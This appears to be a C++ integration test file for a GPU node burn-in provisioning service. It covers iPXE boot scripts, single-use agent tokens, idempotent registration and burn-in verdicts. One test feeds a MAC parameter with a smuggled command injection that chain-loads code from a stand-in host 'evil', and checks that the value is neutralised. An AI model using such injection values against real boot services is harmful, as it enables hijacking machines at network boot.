// The boot service and the agent API over HTTP: iPXE scripts per node state, node-scoped one-time
// tokens, and a burn-in result turned into a stored verdict.
#include <catch2/catch.hpp>

#include "agent/nominal.hpp"
#include "agent/protocol.hpp"
#include "boot_test_support.hpp"
#include "common/secret_box.hpp"
#include "image_test_support.hpp"
#include "inventory/agent_tasks.hpp"

using nlohmann::json;
using testing::bearer;
using testing::bootScript;
using testing::prepareCatalog;
using testing::quickPlan;
using testing::ServiceFixture;
using testing::tokenIn;

namespace {

constexpr const char* kGpuModel = "NVIDIA H100 80GB HBM3";

std::string codeOf(const testing::HttpResult& r) {
  return r.json().value("code", "");
}

agent::Facts factsFor(const std::string& host, int gpus) {
  agent::Facts facts;
  facts.host_serial = host;
  facts.agent_version = "test";
  facts.backend = "simulated";
  for (int i = 0; i < gpus; ++i) {
    agent::GpuFacts g;
    g.index = i;
    g.uuid = "GPU-" + host + "-" + std::to_string(i);
    g.serial = host + "-GPU" + std::to_string(i);
    g.model = kGpuModel;
    g.memory_mib = 81559;
    g.pcie = {16, 16, 5, 5};
    g.driver_version = "580.95.05";
    g.ecc_enabled = true;
    facts.gpus.push_back(g);
  }
  facts.nics.push_back({"enp1s0f0", "02:00:00:00:aa:01"});
  return facts;
}

// Every GPU at nominal (tiny spread), except `weak_gpu`'s HBM bandwidth at `weak_fraction`.
agent::TaskResult resultFor(long long task_id, const agent::Facts& facts, int weak_gpu,
                            double weak_fraction) {
  auto figures = agent::nominalFor(kGpuModel);
  REQUIRE(figures);
  agent::TaskResult result;
  result.task_id = task_id;
  for (const auto& gpu : facts.gpus) {
    for (const auto& test : quickPlan().tests) {
      auto nominal = agent::nominalValue(*figures, test.name);
      REQUIRE(nominal);
      double value = *nominal * (1.0 + 0.002 * gpu.index);
      if (gpu.index == weak_gpu && test.name == agent::kTestHbmBandwidth) value *= weak_fraction;
      result.measurements.push_back(
          {gpu.serial, gpu.uuid, gpu.model, test.name, value, "GB/s", ""});
    }
    result.health.push_back({gpu.serial, 0, 0, {}, 65, {}});
  }
  return result;
}

struct Session {
  long long task_id = 0;
  std::string token;
};

Session registerAgent(ServiceFixture& svc, long long node, const std::string& boot_token,
                      const agent::Facts& facts) {
  auto r = svc.anonymous("POST", "/api/v1/agent/nodes/" + std::to_string(node) + "/register",
                         agent::toJson(facts).dump(), bearer(boot_token));
  INFO(r.body);
  REQUIRE(r.status == 200);
  return {r.json()["task_id"], r.json()["session_token"]};
}

}  // namespace

TEST_CASE("Boot scripts follow the node: unknown retries and idle boots locally",
          "[integration][boot]") {
  ServiceFixture svc;
  prepareCatalog(svc);
  const long long node = testing::makeBootNode(svc, "SN-BOOT-1", "02:00:00:00:00:01");

  auto unknown = bootScript(svc, "02-00-00-00-99-99");
  REQUIRE(unknown.status == 200);
  CHECK(unknown.body.rfind("#!ipxe", 0) == 0);
  CHECK(unknown.body.find("/boot/ipxe?mac=02:00:00:00:99:99") != std::string::npos);
  CHECK(unknown.body.find("kernel ") == std::string::npos);
  auto no_mac = bootScript(svc, "");
  CHECK(no_mac.status == 200);
  CHECK(no_mac.body.find("${net0/mac}") != std::string::npos);

  auto idle = bootScript(svc, "02:00:00:00:00:01");
  REQUIRE(idle.status == 200);
  CHECK(idle.body.find("sanboot") != std::string::npos);
  CHECK(idle.body.find("provisioner.token") == std::string::npos);

  auto task = svc.sendJson("POST", "/api/v1/nodes/" + std::to_string(node) + "/burn-in",
                           {{"batch", "rack-7"}}, "operator");
  REQUIRE(task.status == 201);
  CHECK(task.json()["state"] == "pending");
  auto due = bootScript(svc, "02:00:00:00:00:01");
  REQUIRE(due.status == 200);
  const auto image = svc.get("/api/v1/images/burnin/7.1", "viewer").json();
  for (const auto& artifact : image["artifacts"]) {
    if (artifact["kind"] == "rootfs") continue;
    const std::string sha = artifact["sha256"];
    CHECK(due.body.find(svc.publicUrl() + "/boot/artifacts/" + sha) != std::string::npos);
    CHECK(due.body.find(sha) != due.body.rfind(sha));  // URL and checksum check
  }
  CHECK(due.body.find("provisioner.node=" + std::to_string(node)) != std::string::npos);
  CHECK(due.body.find("provisioner.url=" + svc.publicUrl()) != std::string::npos);
  CHECK(tokenIn(due.body).rfind("agt_", 0) == 0);
}

TEST_CASE("A node due to boot without a usable image is told to retry", "[integration][boot]") {
  ServiceFixture svc;
  const long long node = testing::makeBootNode(svc, "SN-BOOT-2", "02:00:00:00:00:02");
  REQUIRE(svc.sendJson("POST", "/api/v1/nodes/" + std::to_string(node) + "/burn-in", json::object(),
                       "operator")
              .status == 201);
  auto script = bootScript(svc, "02:00:00:00:00:02");
  REQUIRE(script.status == 200);
  CHECK(script.body.find("no hardware profile") != std::string::npos);
  CHECK(script.body.find("provisioner.token") == std::string::npos);
}

TEST_CASE("Agent tokens are node-scoped single-use and expire", "[integration][agent]") {
  ServiceFixture svc;
  prepareCatalog(svc);
  const long long a = testing::makeBootNode(svc, "SN-A", "02:00:00:00:00:0a");
  const long long b = testing::makeBootNode(svc, "SN-B", "02:00:00:00:00:0b");
  for (long long node : {a, b}) {
    REQUIRE(svc.sendJson("POST", "/api/v1/nodes/" + std::to_string(node) + "/burn-in",
                         json::object(), "operator")
                .status == 201);
  }
  const std::string stale = tokenIn(bootScript(svc, "02:00:00:00:00:0a").body);
  const std::string token_a = tokenIn(bootScript(svc, "02:00:00:00:00:0a").body);
  const std::string facts = agent::toJson(factsFor("SN-A", 8)).dump();
  const std::string register_b = "/api/v1/agent/nodes/" + std::to_string(b) + "/register";
  const std::string register_a = "/api/v1/agent/nodes/" + std::to_string(a) + "/register";

  auto cross = svc.anonymous("POST", register_b, facts, bearer(token_a));
  CHECK(cross.status == 403);
  CHECK(codeOf(cross) == "agent_token_wrong_node");
  auto superseded = svc.anonymous("POST", register_a, facts, bearer(stale));
  CHECK(superseded.status == 401);
  CHECK(codeOf(superseded) == "agent_token_revoked");
  auto missing = svc.anonymous("POST", register_a, facts);
  CHECK(missing.status == 401);

  auto session = registerAgent(svc, a, token_a, factsFor("SN-A", 8));
  auto reused = svc.anonymous("POST", register_a, facts, bearer(token_a));
  CHECK(reused.status == 401);
  CHECK(codeOf(reused) == "agent_token_used");
  // The session token is not a boot token, and does not open node B's task.
  CHECK(codeOf(svc.anonymous("POST", register_a, facts, bearer(session.token))) ==
        "agent_token_wrong_kind");
  auto b_task = svc.anonymous("GET", "/api/v1/agent/nodes/" + std::to_string(b) + "/task", "",
                              bearer(session.token));
  CHECK(b_task.status == 403);

  const std::string expired_secret = "agt_expired-for-test";
  REQUIRE(inventory::issueAgentToken(
      svc.db(), {a, session.task_id, "boot", common::sha256Hex(expired_secret), 0}));
  auto expired = svc.anonymous("POST", register_a, facts, bearer(expired_secret));
  CHECK(expired.status == 401);
  CHECK(codeOf(expired) == "agent_token_expired");
}

TEST_CASE("A registration retried with its Idempotency-Key after a lost answer registers again",
          "[integration][agent]") {
  // The replica that took the first attempt was killed before it answered: the agent's retry
  // (same key, another replica) must not be refused as a second use of the one-time token, or
  // the node needs a second boot. Anyone without the key still is.
  ServiceFixture svc;
  prepareCatalog(svc);
  const long long a = testing::makeBootNode(svc, "SN-A", "02:00:00:00:00:0a");
  REQUIRE(svc.sendJson("POST", "/api/v1/nodes/" + std::to_string(a) + "/burn-in", json::object(),
                       "operator")
              .status == 201);
  const std::string token = tokenIn(bootScript(svc, "02:00:00:00:00:0a").body);
  const std::string facts = agent::toJson(factsFor("SN-A", 8)).dump();
  const std::string path = "/api/v1/agent/nodes/" + std::to_string(a) + "/register";
  auto with_key = [&](const std::string& key) {
    auto headers = bearer(token);
    headers.emplace("Idempotency-Key", key);
    return headers;
  };
  auto bad_key = svc.anonymous("POST", path, facts, with_key(std::string(201, 'k')));
  CHECK(bad_key.status == 400);
  CHECK(codeOf(bad_key) == "invalid_idempotency_key");

  auto first = svc.anonymous("POST", path, facts, with_key("reg-7f3a"));  // its answer "lost"
  REQUIRE(first.status == 200);
  auto retry = svc.anonymous("POST", path, facts, with_key("reg-7f3a"));
  INFO(retry.body);
  REQUIRE(retry.status == 200);
  CHECK(retry.json()["task_id"] == first.json()["task_id"]);
  const std::string session = retry.json()["session_token"];
  auto task = svc.anonymous("GET", "/api/v1/agent/nodes/" + std::to_string(a) + "/task", "",
                            bearer(session));
  CHECK(task.status == 200);  // the retry's session works

  auto other = svc.anonymous("POST", path, facts, with_key("someone-else"));
  CHECK(other.status == 401);
  CHECK(codeOf(other) == "agent_token_used");
  auto none = svc.anonymous("POST", path, facts, bearer(token));
  CHECK(codeOf(none) == "agent_token_used");
}

TEST_CASE("A burn-in result becomes a verdict naming the weak GPU", "[integration][agent]") {
  ServiceFixture svc;
  prepareCatalog(svc);
  const long long node = testing::makeBootNode(svc, "SN-BURN", "02:00:00:00:00:0c");
  REQUIRE(svc.sendJson("POST", "/api/v1/nodes/" + std::to_string(node) + "/burn-in",
                       {{"batch", "rack-9"}}, "operator")
              .status == 201);
  const auto facts = factsFor("SN-BURN", 8);
  auto session =
      registerAgent(svc, node, tokenIn(bootScript(svc, "02:00:00:00:00:0c").body), facts);
  const std::string base = "/api/v1/agent/nodes/" + std::to_string(node);
  const std::string task_base = base + "/tasks/" + std::to_string(session.task_id);

  auto task = svc.anonymous("GET", base + "/task", "", bearer(session.token));
  REQUIRE(task.status == 200);
  auto parsed = agent::parseTask(task.json());
  REQUIRE(parsed);
  CHECK(parsed->kind == agent::TaskKind::kBurnIn);
  CHECK(parsed->plan.expected_gpus == 8);

  agent::Progress progress{std::string(agent::kTestCompute), 0, 10, "running"};
  CHECK(svc.anonymous("POST", task_base + "/progress", agent::toJson(progress).dump(),
                      bearer(session.token))
            .status == 204);
  auto running = svc.get("/api/v1/tasks/" + std::to_string(session.task_id), "viewer").json();
  CHECK(running["state"] == "running");
  CHECK(running["progress"]["percent"] == 10);

  auto result = resultFor(session.task_id, facts, 3, 0.75);
  auto posted = svc.anonymous("POST", task_base + "/result", agent::toJson(result).dump(),
                              bearer(session.token));
  INFO(posted.body);
  REQUIRE(posted.status == 200);
  const auto answer = posted.json();
  CHECK(answer["state"] == "failed");
  const auto& failures = answer["verdict"]["failures"];
  REQUIRE(failures.size() == 1);
  const std::string message = failures[0]["message"];
  CHECK(message.find("SN-BURN-GPU3") != std::string::npos);
  CHECK(message.find("hbm_bandwidth") != std::string::npos);

  auto again = svc.anonymous("POST", task_base + "/result", agent::toJson(result).dump(),
                             bearer(session.token));
  CHECK(again.status == 409);
  CHECK(codeOf(again) == "task_not_open");

  auto stored = svc.get("/api/v1/tasks/" + std::to_string(session.task_id), "viewer").json();
  CHECK(stored["state"] == "failed");
  CHECK(stored["results"].size() == result.measurements.size());
  auto history = svc.get("/api/v1/gpus/SN-BURN-GPU3/burn-in", "viewer").json();
  bool flagged = false;
  for (const auto& r : history["items"]) {
    if (r["test"] == "hbm_bandwidth") flagged = !r["passed"].get<bool>();
  }
  CHECK(flagged);
  // Nothing is due any more: the node boots from its disk again.
  CHECK(bootScript(svc, "02:00:00:00:00:0c").body.find("sanboot") != std::string::npos);
}

TEST_CASE("Cancelling a task stops its agent", "[integration][agent]") {
  ServiceFixture svc;
  prepareCatalog(svc);
  const long long node = testing::makeBootNode(svc, "SN-CANCEL", "02:00:00:00:00:0d");
  auto task = svc.sendJson("POST", "/api/v1/nodes/" + std::to_string(node) + "/burn-in",
                           json::object(), "operator");
  REQUIRE(task.status == 201);
  const long long task_id = task.json()["id"];
  auto session = registerAgent(svc, node, tokenIn(bootScript(svc, "02:00:00:00:00:0d").body),
                               factsFor("SN-CANCEL", 8));
  auto cancelled = svc.sendJson("POST", "/api/v1/tasks/" + std::to_string(task_id) + "/cancel",
                                {{"reason", "rack moved"}}, "operator");
  REQUIRE(cancelled.status == 200);
  CHECK(cancelled.json()["state"] == "cancelled");
  auto fetch = svc.anonymous("GET", "/api/v1/agent/nodes/" + std::to_string(node) + "/task", "",
                             bearer(session.token));
  CHECK(fetch.status == 401);
  CHECK(codeOf(fetch) == "agent_token_revoked");
}

TEST_CASE("Bad agent input is refused without using up the boot token", "[integration][agent]") {
  ServiceFixture svc;
  prepareCatalog(svc);
  const long long node = testing::makeBootNode(svc, "SN-BAD", "02:00:00:00:00:0e");
  REQUIRE(svc.sendJson("POST", "/api/v1/nodes/" + std::to_string(node) + "/burn-in", json::object(),
                       "operator")
              .status == 201);
  const std::string token = tokenIn(bootScript(svc, "02:00:00:00:00:0e").body);
  const std::string path = "/api/v1/agent/nodes/" + std::to_string(node) + "/register";

  auto malformed = svc.anonymous("POST", path, "{\"gpus\": [", bearer(token));
  CHECK(malformed.status == 400);
  CHECK(codeOf(malformed) == "malformed_json");
  auto facts = agent::toJson(factsFor("SN-BAD", 8));
  facts["gpus"][2]["memory_mib"] = "lots";
  auto bad_field = svc.anonymous("POST", path, facts.dump(), bearer(token));
  CHECK(bad_field.status == 400);
  CHECK(codeOf(bad_field) == "invalid_facts");
  CHECK(bad_field.json().value("field", "").find("gpus[2]") != std::string::npos);

  // The token is still good: the bad attempts changed nothing.
  auto session = registerAgent(svc, node, token, factsFor("SN-BAD", 8));
  CHECK(session.task_id > 0);
}

TEST_CASE("A hostile MAC parameter cannot inject iPXE commands", "[integration][boot]") {
  ServiceFixture svc;
  auto script = bootScript(svc, "aa%0Ashell%0Achain%20http://evil/x");
  REQUIRE(script.status == 200);
  CHECK(script.body.rfind("#!ipxe\n", 0) == 0);
  CHECK(script.body.find("\nshell") == std::string::npos);
  CHECK(script.body.find("evil") == std::string::npos);
  CHECK(script.body.find("${net0/mac}") != std::string::npos);
}

TEST_CASE("A bad burn-in plan is refused naming its field", "[integration][agent]") {
  ServiceFixture svc;
  auto profile = svc.sendJson("PUT", "/api/v1/hardware-profiles/dgx-h100",
                              {{"model", "DGX H100"},
                               {"channel", "stable"},
                               {"burn_in_plan", {{"tests", {"compute", "warp_drive"}}}}},
                              "operator");
  CHECK(profile.status == 400);
  CHECK(codeOf(profile) == "invalid_plan");
  CHECK(profile.json().value("field", "").rfind("burn_in_plan.tests[1]", 0) == 0);
  CHECK(svc.get("/api/v1/hardware-profiles/dgx-h100", "viewer").status == 404);

  const long long node = testing::makeBootNode(svc, "SN-PLAN", "02:00:00:00:00:0f");
  auto task =
      svc.sendJson("POST", "/api/v1/nodes/" + std::to_string(node) + "/burn-in",
                   {{"plan", {{"tests", {"compute"}}, {"default_threshold", 2}}}}, "operator");
  INFO(task.body);
  CHECK(task.status == 400);
  CHECK(task.json().value("field", "").rfind("plan.default_threshold", 0) == 0);
  CHECK(svc.get("/api/v1/nodes/" + std::to_string(node) + "/tasks", "viewer")
            .json()["items"]
            .empty());
}
